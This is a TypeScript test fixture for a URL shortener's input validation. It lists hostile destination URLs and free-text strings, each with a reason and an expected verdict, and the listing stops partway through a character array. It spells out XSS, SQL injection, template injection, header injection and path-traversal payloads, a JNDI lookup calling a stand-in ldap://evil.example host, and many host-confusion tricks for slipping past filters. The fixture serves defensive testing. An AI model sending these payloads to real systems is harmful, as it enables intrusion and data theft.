import fc from 'fast-check';

// Hostile inputs for every way a destination or a free-text field enters Lifeline (API bodies, UI forms,
// WordPress webhooks, Bitly imports, reader reports). Each hand-written destination says why it is hostile
// and what Lifeline must do with it under HOSTILE_POLICY: store it in the canonical form given, refuse it
// before any policy (no canonical form), or canonicalise it and then refuse it by policy (another host, the
// short domain). The fast-check arbitraries generate more of the same from the same pieces.

/** The deployment the verdicts assume: ALLOWED_TARGET_HOSTS=news.example, SHORT_BASE_URL=https://sho.rt. */
export const HOSTILE_POLICY = {
  allowedTargetHosts: ['news.example'],
  shortBaseUrl: 'https://sho.rt',
} as const;

/** What Lifeline must do with a destination. */
export type HostileVerdict =
  /** Stored and sent exactly as `url` (the input when it is already canonical). */
  | { kind: 'accept'; url: string }
  /** Has the canonical form `url`, but the policy refuses it with a problem matching `problem`. */
  | { kind: 'off_policy'; url: string; problem: RegExp }
  /** Has no canonical form: refused with a problem matching `problem`, before any policy. */
  | { kind: 'refuse'; problem: RegExp };

export interface HostileTarget {
  input: string;
  /** What a browser, another parser or a reader could be fooled into. */
  why: string;
  expect: HostileVerdict;
}

const NOT_ALLOWED = /is not in ALLOWED_TARGET_HOSTS/;
const OWN_HOST = /short domain itself/;
const CONTROL = /spaces or control characters/;
const BACKSLASH = /backslash/;
const CREDENTIALS = /credentials/;
const SCHEME = /must use http or https/;
const NO_HOST = /with a host/;
const NOT_ABSOLUTE = /absolute URL/;
const ENCODED_HOST = /percent-encode its host/;
const INVALID_HOST = /valid host name/;
const HOST_CHARACTERS = /letters, digits/;
const EMPTY_LABEL = /empty label/;
const HOST_LENGTH = /at most 253/;
const PUNYCODE = /punycode/;
const IPV4 = /IPv4 host as/;
const PORT = /port from 1 to 65535/;
const PERCENT = /%XX escape/;
const TOO_LONG = /at most 2048 bytes$/;
const TOO_LONG_ENCODED = /once percent-encoded/;

function accept(input: string, why: string, url = input): HostileTarget {
  return { input, why, expect: { kind: 'accept', url } };
}
function offPolicy(input: string, why: string, url: string, problem = NOT_ALLOWED): HostileTarget {
  return { input, why, expect: { kind: 'off_policy', url, problem } };
}
function refuse(input: string, why: string, problem: RegExp): HostileTarget {
  return { input, why, expect: { kind: 'refuse', problem } };
}

/** The three findings of the first security review, verbatim. */
export const REVIEW_FINDINGS: readonly HostileTarget[] = [
  refuse(
    'https://news.example\\@evil.example/',
    'browsers read host news.example (backslash ends the authority), curl and Python read userinfo "news.example\\" and host evil.example',
    BACKSLASH,
  ),
  accept(
    'https://news.example./x',
    'the trailing dot made a different host string than the allowed news.example',
    'https://news.example/x',
  ),
  offPolicy(
    'https://sho.rt./x',
    'the trailing dot slipped past the "not our own short domain" check: a redirect loop',
    'https://sho.rt/x',
    OWN_HOST,
  ),
];

/** Already canonical: must come out byte-identical (WordPress permalinks, ordinary queries and fragments). */
const BYTE_EXACT: HostileTarget[] = [
  accept(
    'https://news.example/%d8%a7%d9%84-story/',
    'a WordPress permalink: lower-case escapes must stay lower-case',
  ),
  accept(
    'https://news.example/%D8%A7%D9%84-story/',
    'upper-case escapes must stay upper-case too (no case folding)',
  ),
  accept(
    'https://news.example/2024/05/%e6%97%a5%e6%9c%ac%e8%aa%9e/',
    'a date permalink with a CJK slug, lower-case escapes',
  ),
  accept('https://news.example/?a=1&b=%2F', 'an encoded slash in a query must not be decoded'),
  accept('https://news.example/?b=2&a=1', 'query order must not change'),
  accept('https://news.example/?p=123', 'WordPress plain permalink'),
  accept('https://news.example/?s=search+term&x=%20', 'plus and %20 must stay as written'),
  accept('https://news.example/2024/story?id=7#part-2', 'a fragment is kept'),
  accept(
    'https://news.example/a;b=c/~user/x:y@z',
    'sub-delims, tilde, colon and @ in a path are valid as they are',
  ),
  accept('https://news.example/?q=a/b?c', '"/" and "?" inside a query are valid'),
  accept('https://news.example/#/spa/route?x=1', 'a single-page-app route in the fragment'),
  accept('https://www.news.example/', 'a subdomain of an allowed host'),
  accept('http://news.example/plain', 'plain http stays http'),
  accept('https://news.example:8443/x', 'a non-default port is kept'),
  accept('https://news.example/.../a..b/.x/', 'three dots, dots inside names: not dot segments'),
  accept(
    'https://news.example/%2F%2Fevil.example',
    'encoded slashes stay encoded: still a path on news.example',
  ),
  accept('https://news.example/%252e%252e/', 'double-encoded dots are not decoded'),
  accept('https://news.example/%C0%AE%C0%AE/', 'overlong UTF-8 dots stay escaped bytes'),
  accept('https://news.example/%00', 'an escaped NUL is data, not a control character in the Location'),
  accept('https://news.example/x%0d%0aSet-Cookie:a=b', 'escaped CR/LF cannot split the Location header'),
  accept('https://news.example/?next=https://evil.example/', 'a URL inside a query is only data'),
  accept(
    'https://news.example/@evil.example',
    '@ in the path: the host is still news.example for every parser',
  ),
  accept('https://news.example/?a[]=1&a[]=2', 'PHP-style brackets in a query are kept as WHATWG keeps them'),
  accept('https://news.example//evil.example', 'a path starting with // is still a path on news.example'),
  accept('https://news.example/x#a#b', 'a second # inside the fragment is kept'),
  accept('https://news.example/a_b-c.d~e', 'unreserved characters'),
  accept('https://news_desk.news.example/', 'an underscore in a subdomain label'),
  accept(`https://news.example/${'a'.repeat(2048 - 'https://news.example/'.length)}`, 'exactly 2,048 bytes'),
];

/** Accepted after canonicalisation: the stored and emitted form differs from the input. */
const CANONICALISED: HostileTarget[] = [
  accept('HTTPS://NEWS.EXAMPLE/X', 'upper-case scheme and host', 'https://news.example/X'),
  accept('hTtPs://News.Example/Story', 'mixed-case scheme and host', 'https://news.example/Story'),
  accept('https://news.example:443/x', 'the default https port', 'https://news.example/x'),
  accept('http://news.example:80/x', 'the default http port', 'http://news.example/x'),
  accept('https://news.example:00443/x', 'the default port with leading zeros', 'https://news.example/x'),
  accept('https://news.example:/x', 'an empty port', 'https://news.example/x'),
  accept('https://news.example', 'no path: WHATWG adds "/"', 'https://news.example/'),
  accept('https://news.example?x=1', 'no path before a query', 'https://news.example/?x=1'),
  accept('https://news.example?', 'an empty query is kept as "?"', 'https://news.example/?'),
  accept('https://news.example#', 'an empty fragment is kept as "#"', 'https://news.example/#'),
  accept(
    'https://news.example?@evil.example',
    '@ after "?" is query data, not userinfo',
    'https://news.example/?@evil.example',
  ),
  accept(
    'https://news.example#@evil.example',
    '@ after "#" is fragment data',
    'https://news.example/#@evil.example',
  ),
  accept('https://news.example./', 'trailing dot', 'https://news.example/'),
  accept('https://news.example.:443/', 'trailing dot and default port', 'https://news.example/'),
  accept('https://sub.news.example./x', 'trailing dot on a subdomain', 'https://sub.news.example/x'),
  accept('https://news。example/', 'ideographic full stop U+3002 is a dot to IDNA', 'https://news.example/'),
  accept('https://news．example/', 'full-width full stop U+FF0E', 'https://news.example/'),
  accept('https://news｡example/', 'half-width ideographic full stop U+FF61', 'https://news.example/'),
  accept('https://news.example。/', 'a trailing unicode dot', 'https://news.example/'),
  accept('https://ｎｅｗｓ．ｅｘａｍｐｌｅ/', 'full-width letters map to ASCII', 'https://news.example/'),
  accept(
    'https://faß.news.example/',
    'ß is kept (non-transitional IDNA), as punycode',
    'https://xn--fa-hia.news.example/',
  ),
  accept(
    'https://münchen.news.example/',
    'an IDN subdomain becomes punycode',
    'https://xn--mnchen-3ya.news.example/',
  ),
  accept(
    'https://XN--MNCHEN-3YA.news.example/',
    'upper-case punycode',
    'https://xn--mnchen-3ya.news.example/',
  ),
  accept('https://😀.news.example/', 'an emoji label', 'https://xn--e28h.news.example/'),
  accept('https://news.example/a/../b', 'a dot-dot segment is resolved', 'https://news.example/b'),
  accept(
    'https://news.example/a/%2e%2e/b',
    '%2e%2e is a dot-dot segment to WHATWG',
    'https://news.example/b',
  ),
  accept('https://news.example/a/.%2E/b', 'mixed .%2E', 'https://news.example/b'),
  accept('https://news.example/a/%2E./b', 'mixed %2E.', 'https://news.example/b'),
  accept('https://news.example/./a/%2e/b', 'single-dot segments', 'https://news.example/a/b'),
  accept(
    'https://news.example/%2e%2e/%2e%2e/etc/passwd',
    'dot-dot cannot climb above the root',
    'https://news.example/etc/passwd',
  ),
  accept(
    'https://news.example/..//evil.example',
    'dot-dot then an empty segment',
    'https://news.example//evil.example',
  ),
  accept(
    'https://news.example/القصة',
    'raw Arabic path: UTF-8 escapes (upper-case, as WHATWG writes them)',
    'https://news.example/%D8%A7%D9%84%D9%82%D8%B5%D8%A9',
  ),
  accept(
    'https://news.example/é?é#é',
    'raw non-ASCII in path, query and fragment',
    'https://news.example/%C3%A9?%C3%A9#%C3%A9',
  ),
  accept('https://news.example/😀', 'an emoji in the path', 'https://news.example/%F0%9F%98%80'),
  accept(
    'https://news.example/❤\ufe0f',
    'a variation selector in a path is text, escaped',
    'https://news.example/%E2%9D%A4%EF%B8%8F',
  ),
  accept(
    'https://news.example/ز\u200cی',
    'ZWNJ inside Persian text in a path is escaped, not refused',
    'https://news.example/%D8%B2%E2%80%8C%DB%8C',
  ),
  accept(
    "https://news.example/?q='x'",
    "' in a special URL's query is escaped",
    'https://news.example/?q=%27x%27',
  ),
  accept(
    'https://news.example/a"b<c>d',
    'quotes and angle brackets are escaped',
    'https://news.example/a%22b%3Cc%3Ed',
  ),
  accept(
    'https://news.example/a^b',
    '^ in a path: escaped (the standard does, older parsers did not)',
    'https://news.example/a%5Eb',
  ),
  accept(
    'https://news.example/{x}`y`',
    'braces and backticks in a path are escaped',
    'https://news.example/%7Bx%7D%60y%60',
  ),
  accept(
    'https://news.example/?q={x}|^`',
    'WHATWG keeps these raw in a query',
    'https://news.example/?q={x}|^`',
  ),
  accept('https://news.example/#"x"', 'quotes in a fragment are escaped', 'https://news.example/#%22x%22'),
  accept(
    'https://news.example/a|b[c]',
    'pipes and brackets in a path are kept raw by WHATWG',
    'https://news.example/a|b[c]',
  ),
];

/** Scheme tricks. */
const SCHEMES: HostileTarget[] = [
  refuse('javascript:alert(1)', 'script execution', SCHEME),
  refuse('JaVaScRiPt:alert(1)', 'mixed-case javascript:', SCHEME),
  refuse('javascript://news.example/%0aalert(1)', 'javascript: that looks like it has a host', SCHEME),
  refuse('data:text/html,<script>alert(1)</script>', 'a data: document', SCHEME),
  refuse('vbscript:msgbox(1)', 'legacy script scheme', SCHEME),
  refuse('file:///etc/passwd', 'local files', SCHEME),
  refuse('ftp://news.example/x', 'not http(s)', SCHEME),
  refuse('ws://news.example/socket', 'websocket, special in WHATWG but not a page', SCHEME),
  refuse('blob:https://news.example/1234', 'a blob: URL that embeds an origin', SCHEME),
  refuse('view-source:https://news.example/', 'a browser pseudo-scheme', SCHEME),
  refuse('intent://news.example#Intent;scheme=https;end', 'an Android intent', SCHEME),
  refuse('mailto:a@news.example', 'mail', SCHEME),
  refuse('httpx://news.example/', 'a look-alike scheme', SCHEME),
  refuse('https+evil://news.example/', 'scheme with plus', SCHEME),
  refuse('news.example/x', 'no scheme at all', NOT_ABSOLUTE),
  refuse(
    '//evil.example/x',
    'protocol-relative: would inherit our scheme and go to evil.example',
    NOT_ABSOLUTE,
  ),
  refuse('/relative/path', 'relative to the short domain', NOT_ABSOLUTE),
  refuse('', 'empty', NOT_ABSOLUTE),
  refuse('https:news.example/x', 'no slashes: WHATWG still finds a host, RFC 3986 sees only a path', NO_HOST),
  refuse('https:/news.example/x', 'one slash: the same disagreement', NO_HOST),
  refuse('https:///news.example/x', 'three slashes: WHATWG skips them, RFC 3986 sees an empty host', NO_HOST),
  refuse('https:////evil.example/', 'four slashes', NO_HOST),
  refuse('https://', 'nothing after the scheme', NO_HOST),
  refuse('https://?x=1', 'empty authority before a query', NO_HOST),
  refuse('https://#x', 'empty authority before a fragment', NO_HOST),
  refuse('https://:443/', 'a port but no host', /must have a host$/),
];

/** Userinfo and @ tricks. */
const USERINFO: HostileTarget[] = [
  refuse('https://user@news.example/', 'a user name', CREDENTIALS),
  refuse('https://user:secret@news.example/', 'a password would be stored and shown', CREDENTIALS),
  refuse('https://@news.example/', 'an empty userinfo: WHATWG drops it silently', CREDENTIALS),
  refuse('https://:@news.example/', 'an empty user and password', CREDENTIALS),
  refuse('https://news.example@evil.example/', 'reads as news.example, goes to evil.example', CREDENTIALS),
  refuse('https://news.example:443@evil.example/', 'looks like a port, is a password', CREDENTIALS),
  refuse('https://evil.example@news.example/', 'harmless host, but the userinfo could phish', CREDENTIALS),
  refuse('https://news.example%40evil.example/', 'an encoded @ in the host', ENCODED_HOST),
  refuse('https://news.example%2F@evil.example/', 'an encoded slash before a real @', CREDENTIALS),
  refuse(
    'https://evil.example＠news.example/',
    'full-width @ U+FF20 maps to a forbidden @ in the host',
    INVALID_HOST,
  ),
  refuse(
    'https://news.example／@evil.example/',
    'full-width solidus U+FF0F in userinfo position',
    CREDENTIALS,
  ),
  refuse('https://a@b@news.example/', 'two @ signs: parsers pick different ones', CREDENTIALS),
];

/** Backslashes: WHATWG reads them as "/", other parsers as data. */
const BACKSLASHES: HostileTarget[] = [
  refuse('https:\\\\evil.example/', 'backslashes instead of slashes after the scheme', BACKSLASH),
  refuse('https:/\\evil.example/', 'slash and backslash', BACKSLASH),
  refuse('https://\\evil.example/', 'a backslash starting the authority', BACKSLASH),
  refuse('https://news.example\\.evil.example/', 'a backslash inside the host', BACKSLASH),
  refuse('https://news.example/\\evil.example', 'a backslash in the path would become /', BACKSLASH),
  refuse('https://news.example/a\\..\\..\\b', 'backslash dot-dot segments', BACKSLASH),
  refuse('https://news.example/?x=\\', 'a raw backslash in a query is invalid RFC 3986', BACKSLASH),
  refuse('https://news.example/#\\', 'a raw backslash in a fragment', BACKSLASH),
  refuse('\\\\evil.example\\x', 'a UNC path', NOT_ABSOLUTE),
];

/** Control characters, whitespace and invisible characters (WHATWG strips tabs and newlines silently). */
const CONTROLS: HostileTarget[] = [
  refuse('ht\ttps://news.example/', 'a tab in the scheme: WHATWG removes it', CONTROL),
  refuse('https://news.exa\tmple/', 'a tab in the host: WHATWG reads news.example', CONTROL),
  refuse('https://evil.exa\nmple@news.example/', 'a newline in the userinfo', CONTROL),
  refuse('https://news.example\n.evil.example/', 'a newline that WHATWG removes, changing the host', CONTROL),
  refuse('https://news.example/a\r\nLocation: https://evil.example/', 'CR/LF header injection', CONTROL),
  refuse('https://news.example/\u0000', 'NUL', CONTROL),
  refuse('https://news.example/\u007f', 'DEL', CONTROL),
  refuse('https://news.example/\u0085', 'NEL, a C1 control', CONTROL),
  refuse(' https://news.example/', 'a leading space WHATWG trims', CONTROL),
  refuse('https://news.example/ ', 'a trailing space WHATWG trims', CONTROL),
  refuse('\u0001https://evil.example/', 'a leading C0 control WHATWG trims', CONTROL),
  refuse('https://news.example/a b', 'a space', CONTROL),
  refuse('https://news.example/a\u00a0b', 'a no-break space', CONTROL),
  refuse('https://news.example/a\u2028b', 'LINE SEPARATOR, a line break to JavaScript', CONTROL),
  refuse('https://news.example/a\u3000b', 'ideographic space', CONTROL),
  refuse('https://news.example/\u200b', 'zero-width space', CONTROL),
  refuse('https://news.example/\u202egnp.exe', 'right-to-left override: the path reads backwards', CONTROL),
  refuse('https://news.example/\u2066x\u2069', 'bidi isolates', CONTROL),
  refuse('https://news.example/\ufeff', 'byte-order mark', CONTROL),
  refuse(
    'https://news.ex\u00adample/',
    'soft hyphen: IDNA drops it, so the host would read news.example',
    CONTROL,
  ),
  refuse('https://news\u200b.example/', 'zero-width space in the host', CONTROL),
  refuse('https://news.ex\u200dample/', 'a zero-width joiner in the host', CONTROL),
  refuse('https://news.example/\u3164', 'Hangul filler renders as nothing', CONTROL),
  refuse('https://news.ex\u034fample/', 'combining grapheme joiner: IDNA drops it from the host', CONTROL),
  refuse('https://news.example\ufe0f/', 'a variation selector IDNA drops from the host', CONTROL),
  refuse('https://news.example/\ud800', 'a lone surrogate has no UTF-8 form', CONTROL),
  refuse('https://news.example/\udc00x', 'a lone low surrogate', CONTROL),
];

/** Host names. */
const HOSTS: HostileTarget[] = [
  refuse('https://news..example/', 'an empty label', EMPTY_LABEL),
  refuse('https://.news.example/', 'a leading dot', EMPTY_LABEL),
  refuse('https://news.example../', 'two trailing dots', EMPTY_LABEL),
  refuse('https://news。。example/', 'empty label from unicode dots', EMPTY_LABEL),
  refuse(`https://${'a'.repeat(64)}.news.example/`, 'a 64-character label', HOST_LENGTH),
  refuse(`https://${'abcdefghi.'.repeat(25)}news.example/`, 'a 262-character name', HOST_LENGTH),
  refuse('https://a$b.news.example/', '$ is legal to WHATWG, not in a DNS name', HOST_CHARACTERS),
  refuse('https://a"b.news.example/', 'a quote in the host', HOST_CHARACTERS),
  refuse('https://a{b}.news.example/', 'braces in the host', HOST_CHARACTERS),
  refuse("https://a'b.news.example/", 'an apostrophe in the host', HOST_CHARACTERS),
  refuse('https://a*b.news.example/', 'an asterisk', HOST_CHARACTERS),
  refuse('https://a!b.news.example/', 'an exclamation mark', HOST_CHARACTERS),
  refuse('https://a~b.news.example/', 'a tilde', HOST_CHARACTERS),
  refuse('https://a,b.news.example/', 'a comma', HOST_CHARACTERS),
  refuse('https://a;b.news.example/', 'a semicolon', HOST_CHARACTERS),
  refuse('https://a=b.news.example/', 'an equals sign', HOST_CHARACTERS),
  refuse('https://a&b.news.example/', 'an ampersand', HOST_CHARACTERS),
  refuse('https://a+b.news.example/', 'a plus', HOST_CHARACTERS),
  refuse('https://news&#46;example/', 'an HTML entity for a dot', HOST_CHARACTERS),
  refuse('https://a<b.news.example/', 'an angle bracket (forbidden to WHATWG)', INVALID_HOST),
  refuse('https://a|b.news.example/', 'a pipe (forbidden to WHATWG)', INVALID_HOST),
  refuse('https://a^b.news.example/', 'a caret (forbidden to WHATWG)', INVALID_HOST),
  refuse('https://news%2eexample/', 'an encoded dot', ENCODED_HOST),
  refuse('https://%6e%65%77%73.example/', 'a fully encoded label', ENCODED_HOST),
  refuse('https://news.example%2f.evil.example/', 'an encoded slash in the host', ENCODED_HOST),
  refuse('https://news.example%00.evil.example/', 'an encoded NUL in the host', ENCODED_HOST),
  refuse('https://news․example/', 'ONE DOT LEADER U+2024 is not a dot to IDNA', INVALID_HOST),
  refuse('https://xn--zz.news.example/', 'not the punycode of a valid label', PUNYCODE),
  refuse('https://xn--.news.example/', 'an empty punycode label', PUNYCODE),
  refuse('https://xn--abc-.news.example/', 'punycode of plain ASCII', PUNYCODE),
  refuse('https://xn--a.news.example/', 'a truncated punycode label', PUNYCODE),
  refuse(
    'https://ａ／b.news.example/',
    'full-width solidus U+FF0F maps to a slash inside the host',
    INVALID_HOST,
  ),
  refuse('https://news.example＃.evil.example/', 'full-width # U+FF03 maps to a forbidden #', INVALID_HOST),
  refuse('https://a.1/', 'ends in a number: WHATWG tries IPv4 and fails', INVALID_HOST),
  refuse('https://news.example.0x10/', 'ends in a hex number', INVALID_HOST),
  accept('https://NEWS.EXAMPLE/', 'upper case', 'https://news.example/'),
  offPolicy('https://evil.example/', 'another host', 'https://evil.example/'),
  offPolicy(
    'https://news.example.evil.example/',
    'the allowed host as a prefix',
    'https://news.example.evil.example/',
  ),
  offPolicy(
    'https://evilnews.example/',
    'the allowed host as a suffix without a dot boundary',
    'https://evilnews.example/',
  ),
  offPolicy(
    'https://news-example/',
    'a single label that reads like the allowed host',
    'https://news-example/',
  ),
  offPolicy(
    'https://news.example。evil.example/',
    'a unicode dot makes the allowed host a prefix',
    'https://news.example.evil.example/',
  ),
  offPolicy(
    'https://news.exаmple/',
    'a Cyrillic а in the allowed name: another host',
    'https://news.xn--exmple-4nf/',
  ),
  offPolicy(
    'https://аpple.com/',
    'whole-Cyrillic look-alike (lookalike_host.ts warns on it)',
    'https://xn--pple-43d.com/',
  ),
  offPolicy(
    'https://xn--pple-43d.com/',
    'the same look-alike already in punycode',
    'https://xn--pple-43d.com/',
  ),
  offPolicy('https://ΒΑΝΚ.example/', 'upper-case Greek maps to lower case', 'https://xn--mxabzl.example/'),
  offPolicy('https://localhost/', 'loopback by name', 'https://localhost/'),
  offPolicy('https://localhost./', 'loopback with a trailing dot', 'https://localhost/'),
  offPolicy('https://sho.rt/x', 'our own short domain: a loop', 'https://sho.rt/x', OWN_HOST),
  offPolicy('https://SHO.RT/x', 'our own short domain in capitals', 'https://sho.rt/x', OWN_HOST),
  offPolicy('https://sho.rt.:443/x', 'trailing dot and default port', 'https://sho.rt/x', OWN_HOST),
  offPolicy(
    'http://sho.rt/x',
    'our domain over http (redirects to https, then loops)',
    'http://sho.rt/x',
    OWN_HOST,
  ),
  offPolicy('http://sho.rt:443/x', 'http on our https port', 'http://sho.rt:443/x', OWN_HOST),
  offPolicy('https://ｓｈｏ．ｒｔ/x', 'full-width spelling of our domain', 'https://sho.rt/x', OWN_HOST),
  offPolicy(
    'https://sho.rt:8443/x',
    'another port on our name is another service (and not allowed here)',
    'https://sho.rt:8443/x',
  ),
  offPolicy(
    'https://www.sho.rt/x',
    'a subdomain of ours is not ours (nor allowed here)',
    'https://www.sho.rt/x',
  ),
];

/** IPv4 and IPv6 literals. */
const ADDRESSES: HostileTarget[] = [
  offPolicy(
    'http://93.184.216.34/',
    'a dotted quad is canonical (allowed hosts decide)',
    'http://93.184.216.34/',
  ),
  offPolicy('http://127.0.0.1./', 'a dotted quad with a trailing dot', 'http://127.0.0.1/'),
  offPolicy('http://0.0.0.0/', 'the unspecified address, dotted', 'http://0.0.0.0/'),
  refuse('http://2130706433/', 'decimal IPv4: a name to Python, 127.0.0.1 to browsers', IPV4),
  refuse('http://0x7f000001/', 'hex IPv4', IPV4),
  refuse('http://0x7f.1/', 'hex and short IPv4', IPV4),
  refuse('http://0177.0.0.1/', 'octal IPv4', IPV4),
  refuse('http://017700000001/', 'one octal number', IPV4),
  refuse('http://127.1/', 'short IPv4', IPV4),
  refuse('http://127.0.1/', 'three-part IPv4', IPV4),
  refuse('http://1.2.3.010/', 'a zero-padded part is octal to WHATWG (1.2.3.8)', IPV4),
  refuse('http://01.2.3.4/', 'a leading zero', IPV4),
  refuse('http://127.0.0.0x1/', 'a hex last part', IPV4),
  refuse('http://4294967295/', 'the largest decimal address', IPV4),
  refuse('http://１２７.０.０.１/', 'full-width digits', IPV4),
  refuse('http://0X7F.0.0.1/', 'upper-case hex prefix', IPV4),
  refuse('http://4294967296/', 'past the IPv4 range', INVALID_HOST),
  refuse('http://256.0.0.1/', 'a part over 255', INVALID_HOST),
  refuse('http://1.2.3.4.5/', 'five parts', INVALID_HOST),
  refuse('http://127.0.0.1:80@evil.example/', 'an address as userinfo', CREDENTIALS),
  offPolicy('http://[::1]/', 'IPv6 loopback', 'http://[::1]/'),
  offPolicy('http://[0:0:0:0:0:0:0:1]/', 'uncompressed IPv6 is compressed', 'http://[::1]/'),
  offPolicy('http://[::FFFF:127.0.0.1]/', 'IPv4-mapped IPv6 in mixed notation', 'http://[::ffff:7f00:1]/'),
  offPolicy('https://[2001:DB8::1]:8443/x', 'upper-case IPv6 and a port', 'https://[2001:db8::1]:8443/x'),
  offPolicy('http://[::1]:80/', 'IPv6 with the default port', 'http://[::1]/'),
  refuse('http://[fe80::1%25eth0]/', 'an IPv6 zone identifier', ENCODED_HOST),
  refuse('http://[::1/', 'an unclosed bracket', INVALID_HOST),
  refuse('http://[v1.x]/', 'an IPvFuture literal', INVALID_HOST),
  refuse('http://[[::1]]/', 'nested brackets', INVALID_HOST),
  refuse('http://[::1]@evil.example/', 'an address as userinfo', CREDENTIALS),
  refuse('http://[::1]x/', 'junk after the bracket', INVALID_HOST),
];

/** Ports. */
const PORTS: HostileTarget[] = [
  refuse('https://news.example:0/', 'port 0 is not connectable', PORT),
  refuse('https://news.example:65536/', 'past the port range', PORT),
  refuse('https://news.example:99999999999999999999/', 'far past the port range', PORT),
  refuse('https://news.example:-1/', 'a negative port', PORT),
  refuse('https://news.example:+443/', 'a signed port', PORT),
  refuse('https://news.example:0x1bb/', 'a hex port', PORT),
  refuse('https://news.example:evil.example/', 'a host where the port goes', PORT),
  refuse('https://news.example:443:443/', 'two ports', PORT),
  accept('https://news.example:65535/', 'the largest port', 'https://news.example:65535/'),
  accept('https://news.example:80/', 'port 80 on https is not the default', 'https://news.example:80/'),
  accept('http://news.example:443/', 'port 443 on http is not the default', 'http://news.example:443/'),
];

/** Malformed percent-escapes and overlong input. */
const ENCODINGS: HostileTarget[] = [
  refuse('https://news.example/100%', 'a bare % at the end', PERCENT),
  refuse('https://news.example/%zz', 'a % without hex digits', PERCENT),
  refuse('https://news.example/%4', 'a truncated escape', PERCENT),
  refuse('https://news.example/?discount=50%off', 'a bare % in a query', PERCENT),
  refuse('https://news.example/#50%', 'a bare % in a fragment', PERCENT),
  refuse('https://news.example/%%32%65%%32%65/', 'a double-percent trick for %2e', PERCENT),
  refuse('https://news.example/%u002e%u002e/', 'IIS-style %u escapes', PERCENT),
  refuse(
    `https://news.example/${'a'.repeat(2049 - 'https://news.example/'.length)}`,
    '2,049 bytes',
    TOO_LONG,
  ),
  refuse(
    `https://news.example/${'é'.repeat(1013)}`,
    '2,047 bytes raw, over 6,000 once escaped',
    TOO_LONG_ENCODED,
  ),
  refuse(`https://news.example/${'é'.repeat(1014)}`, '2,049 bytes of UTF-8', TOO_LONG),
  refuse(`https://news.example/${'x'.repeat(100_000)}`, 'very large input', TOO_LONG),
  refuse(`https://${'a.'.repeat(1500)}news.example/`, 'a huge host name', TOO_LONG),
];

/** Every hand-written destination, grouped above. */
export const HOSTILE_TARGETS: readonly HostileTarget[] = [
  ...REVIEW_FINDINGS,
  ...BYTE_EXACT,
  ...CANONICALISED,
  ...SCHEMES,
  ...USERINFO,
  ...BACKSLASHES,
  ...CONTROLS,
  ...HOSTS,
  ...ADDRESSES,
  ...PORTS,
  ...ENCODINGS,
];

/** Hostile free text for other fields (titles, tags, report reasons, webhook strings), with why each hurts. */
export const HOSTILE_STRINGS: readonly { value: string; why: string }[] = [
  { value: '', why: 'empty' },
  { value: ' ', why: 'only a space' },
  { value: '\u0000', why: 'NUL: Postgres text refuses it' },
  { value: 'a\r\nX-Injected: 1', why: 'CR/LF header injection' },
  { value: '<script>alert(1)</script>', why: 'script injection into HTML' },
  { value: '"><img src=x onerror=alert(1)>', why: 'attribute breakout' },
  { value: "' OR '1'='1' --", why: 'SQL injection' },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal placeholder is the payload
  { value: '${jndi:ldap://evil.example/a}', why: 'template/lookup injection' },
  { value: '{{7*7}}', why: 'server-side template injection' },
  { value: '__proto__', why: 'prototype pollution key' },
  { value: 'constructor', why: 'prototype property name' },
  { value: '\u202eevil.exe', why: 'right-to-left override' },
  { value: 'a\u200bb', why: 'zero-width space' },
  { value: '\ud800', why: 'lone surrogate: no UTF-8 form' },
  { value: '👨‍👩‍👧‍👦', why: 'emoji ZWJ sequence: one grapheme, many code points' },
  { value: `e${'\u0301'.repeat(200)}`, why: 'stacked combining marks' },
  { value: '../../etc/passwd', why: 'path traversal' },
  { value: '%00', why: 'encoded NUL' },
  { value: '\\', why: 'a lone backslash' },
  { value: 'null', why: 'a JSON keyword as a string' },
  { value: '1e309', why: 'a number that overflows to Infinity' },
  { value: 'x'.repeat(100_000), why: 'very long' },
  { value: '\u2028\u2029', why: 'JavaScript line terminators' },
];

// Pieces for generated destinations: for each part an ordinary pool and a hostile one, drawn 5 to 2 so that
// about a third of the generated URLs have no hostile piece at all (and exercise the accepting side).
const SCHEMES_POOL = [
  ['https', 'http', 'HTTPS', 'hTtP'],
  ['javascript', 'data', 'ftp', 'file', 'ws', 'ht\ttps', ''],
];
const SEPARATORS = [['://'], [':/', ':', ':///', ':\\\\', ':/\\', '://\\', ':\\/', '://\t']];
const USERINFOS = [
  [''],
  ['@', ':@', 'user@', 'u:p@', 'news.example@', 'news.example\\@', 'news.example%40', 'sho.rt@', '%40@'],
];
const HOSTS_POOL = [
  [
    'news.example',
    'www.news.example',
    'NEWS.EXAMPLE',
    'news.example.',
    'münchen.news.example',
    'news。example',
  ],
  [
    'news.example..',
    'evil.example',
    'news.example.evil.example',
    'evilnews.example',
    'sho.rt',
    'sho.rt.',
    'SHO.RT',
    'news．example',
    'news｡example',
    'ｎｅｗｓ.example',
    'news.exаmple',
    'xn--mnchen-3ya.news.example',
    'xn--zz.news.example',
    'news%2eexample',
    'news..example',
    '.news.example',
    'localhost',
    '127.0.0.1',
    '2130706433',
    '0x7f.1',
    '0177.0.0.1',
    '127.1',
    '[::1]',
    '[::ffff:127.0.0.1]',
    '[fe80::1%25eth0]',
    'a$b.news.example',
    'news.example\\.evil.example',
    '',
  ],
];
const PORTS_POOL = [
  ['', ':443', ':8443'],
  [':', ':80', ':0', ':65535', ':65536', ':0443', ':-1', ':x', '::'],
];
const SEGMENTS = [
  ['2024', 'story', '%d8%a7', '%E6%97%A5', 'a-b_c', '~user', ';', ':', 'é', '..', '.', '', "'"],
  [
    '%2e%2e',
    '%2E.',
    '.%2e',
    '@evil.example',
    'evil.example',
    '%2F%2Fevil.example',
    '%5C',
    '%00',
    '%0d%0a',
    '100%',
    '%zz',
    'a^b',
    '{x}',
    '|',
    '[a]',
    '"',
    '<>',
    '`',
    '\\',
  ],
];
const QUERY_PIECES = [
  ['a=1', 'b=%2F', 'p=é', '', 'u=https://evil.example/'],
  ['@evil.example', 'next=//evil.example', "q='x'", 'x=\\', 'a[]=1', '%', '?'],
];
const FRAGMENT_PIECES = [
  ['top', '', '/route?x=1', 'é'],
  ['@evil.example', '#', '%', '"q"', '\\'],
];

/** Mostly ordinary, sometimes hostile. */
function pieceOf([ordinary, hostile]: string[][]): fc.Arbitrary<string> {
  return fc.oneof(
    { arbitrary: fc.constantFrom(...ordinary!), weight: 5 },
    { arbitrary: fc.constantFrom(...hostile!), weight: 2 },
  );
}

/** Characters that make a URL hostile wherever they land. */
export const HOSTILE_CHARACTERS = [
  '\t',
  '\n',
  '\r',
  '\u0000',
  '\u007f',
  '\u0085',
  '\u00a0',
  '\u00ad',
  '\u200b',
  '\u200d',
  '\u202e',
  '\u2028',
